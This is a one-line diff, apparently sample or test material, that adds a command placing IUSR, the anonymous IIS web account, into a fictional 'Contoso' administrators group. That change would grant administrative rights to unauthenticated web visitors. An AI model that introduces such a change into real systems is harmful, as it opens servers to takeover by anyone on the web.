@@ -1,0 +1,1 @@
+Add-ContosoAdminGroupMember -User IUSR
